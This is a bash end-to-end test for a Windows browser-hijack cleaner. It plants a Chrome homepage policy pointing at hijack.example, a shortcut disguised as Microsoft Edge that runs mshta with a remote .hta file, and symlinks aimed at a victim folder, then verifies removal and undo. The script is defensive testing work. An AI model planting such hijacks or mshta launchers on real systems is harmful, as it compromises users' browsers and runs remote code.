#!/usr/bin/env bash
# Row 13 with real input: a Chrome machine policy and a desktop shortcut that
# starts a stand-in chrome.exe with an address, beside an administrator's
# policy. F5 shows the row orange; the manager lists both, every line ticked
# (a line cut at the right edge shows all of it as the tip under the pointer),
# and clean removes them, keeping the other policy and the profile argument;
# a shortcut named like Edge that starts mshta is deleted. With the lock
# option on, the cleaned policy that another process writes back goes again,
# while a policy written beside it stays. Undo from the check menu puts the
# policy back and both shortcuts byte for byte; then orvane-cli's browsers
# list and clean through cmd /c.
. "$(dirname "$0")/lib/e2e.sh"
e2e_setup

CHROME='HKLM\SOFTWARE\Policies\Google\Chrome' LINK='Google Chrome'
link() { wine "$E2E_BUILD/orvane_e2e_link.exe" "$@" </dev/null 2>/dev/null | tr -d '\r'; }
BK="$WINEPREFIX/drive_c/ProgramData/Orvane/Backups" OLD_1="$BK/2000-01-01_1" OLD_2="$BK/2000-01-01_2"
trap 'wine reg delete "$CHROME" /f </dev/null >/dev/null 2>&1 || true; rm -rf "$lnk" "$fake" "$BK"/2000-01-01_*; e2e_cleanup' EXIT
cp "$E2E_BUILD/orvane-cli.exe" "$E2E_APP/orvane-cli.exe"
rm -rf "$E2E_APP/Backups"

mkdir -p "$E2E_ROOT/Chrome"
cp "$E2E_BUILD/orvane_e2e_link.exe" "$E2E_ROOT/Chrome/chrome.exe"
e2e_reg_set "$CHROME" HomepageLocation 'https://hijack.example/'
e2e_reg_set "$CHROME" MetricsReportingEnabled 0
lnk=$(link make "$LINK" "$(winepath -w "$E2E_ROOT/Chrome/chrome.exe" 2>/dev/null)" \
  '--profile-directory="Profile 1" https://hijack.example/?src=lnk')
lnk=$(winepath -u "$lnk" 2>/dev/null)
fake=$(winepath -u "$(link make 'Microsoft Edge' 'C:\windows\system32\mshta.exe' 'http://hijack.example/a.hta')" 2>/dev/null)
[ -f "$lnk" ] && [ -f "$fake" ] || fail "no shortcuts planted"
sums() { md5sum "$lnk" "$fake" 2>&1 | awk '{print $1}' | tr '\n' ' '; }
before=$(sums)
check_menu() {  # keys that pick a line
  xdotool mousemove --window "$E2E_WINDOW" 200 200 key F5
  e2e_wait_other_window >/dev/null && sleep 0.3 && xdotool key "$@" Return || fail "no check menu after F5"
}

e2e_start
e2e_scroll_down 7
check_menu Down
sleep 1
e2e_shot "$E2E_WINDOW" "$E2E_SHOTS/browsers-checked.png"
orange=$(e2e_pixels "$E2E_SHOTS/browsers-checked.png" "375x16+20+$(( $(e2e_row_y 13 7) - 6 ))" \
  '$1 >= 150 && $2 >= 50 && $2 <= 190 && $3 <= 130 && $1 - $3 >= 90')
[ "$orange" -gt 10 ] && echo "ok: row 13 orange ($orange)" || fail "row 13 not orange ($orange)"

e2e_tick_row 13 7
e2e_tick_lock
e2e_press_repair
manager=$(e2e_wait_other_window) || manager=
if [ -n "$manager" ]; then
  sleep 0.5
  e2e_shot "$manager" "$E2E_DOCS/browser-manager.png"
  # The policy line is cut at the list's right edge: under the pointer its tip holds all of it.
  tip() { wine "$E2E_BUILD/orvane_e2e_acc.exe" tip </dev/null 2>/dev/null | tr -d '\r' | grep .; }
  xdotool mousemove --window "$manager" 200 72 sleep 0.2 mousemove --window "$manager" 203 72
  expect_eq "the cut line's tip" 'Google Chrome | HKLM\SOFTWARE\Policies\Google\Chrome [HomepageLocation] | 主页 | https://hijack.example/' \
    "$(e2e_until 30 tip)"
  xdotool mousemove --window "$manager" 300 300 sleep 0.5
  e2e_click "$manager" 339 227  # clean: every line is ticked
  sleep 1
  expect_eq "policy removed" '(absent)' "$(e2e_reg_value "$CHROME" HomepageLocation)"
  expect_eq "administrator's policy kept" 0 "$(e2e_reg_value "$CHROME" MetricsReportingEnabled)"
  expect_eq "shortcut keeps its profile" '--profile-directory="Profile 1"' "$(link args "$LINK")"
  expect_eq "impostor deleted" no "$([ -f "$fake" ] && echo yes || echo no)"
  e2e_click "$manager" 377 10
  e2e_wait_no_other_window || fail "manager still open"
  # Lock mode: another process puts the cleaned policy back beside a new one.
  sleep 1
  e2e_reg_set "$CHROME" HomepageLocation 'https://hijack.example/again' && e2e_reg_set "$CHROME" PasswordManagerEnabled 0
  e2e_until 50 e2e_value_is "$CHROME" HomepageLocation '(absent)' || true
  expect_eq "policy written back is removed again" '(absent)' "$(e2e_reg_value "$CHROME" HomepageLocation)"
  expect_eq "policies beside it kept" "0 0" \
    "$(e2e_reg_value "$CHROME" PasswordManagerEnabled) $(e2e_reg_value "$CHROME" MetricsReportingEnabled)"
else
  fail "browser manager did not open"
fi

# Undo from the check menu (F5, second line) puts every byte back.
check_menu Down Down
e2e_dismiss_box || fail "no message after undo"
expect_eq "policy back" 'https://hijack.example/' "$(e2e_reg_value "$CHROME" HomepageLocation)"
expect_eq "shortcuts back byte for byte" "$before" "$(sums)"
e2e_stop

# The console program: list finds both lines again, clean removes them. Its
# backup prunes the oldest runs: a host link (a reparse point to Windows, like a
# junction) planted as one's file copies or inside another's is never followed.
expect_eq "browsers list exit code" 1 "$(cli browsers list --json)"
expect_eq "list names the shortcut" 1 "$(grep -c 'Google Chrome.lnk' "$E2E_ROOT/cli.out")"
mkdir -p "$E2E_ROOT/victim" "$OLD_2.files/sub" && echo precious >"$E2E_ROOT/victim/file"
touch "$OLD_2.files/sub/1" && ln -sfn "$E2E_ROOT/victim" "$OLD_2.files/in" && ln -sfn "$E2E_ROOT/victim" "$OLD_1.files"
for n in $(seq 1 101); do touch "$BK/2000-01-01_$n.reg"; done
expect_eq "browsers clean exit code" 0 "$(cli browsers clean)"
expect_eq "nothing left" 0 "$(cli browsers list)"
expect_eq "oldest runs pruned with their copies" "no no" "$([ -e "$OLD_1.reg" ] && echo yes || echo no) $([ -e "$OLD_2.files/sub" ] && echo yes || echo no)"
expect_eq "a planted link's target untouched" precious "$(cat "$E2E_ROOT/victim/file" 2>&1)"

e2e_finish
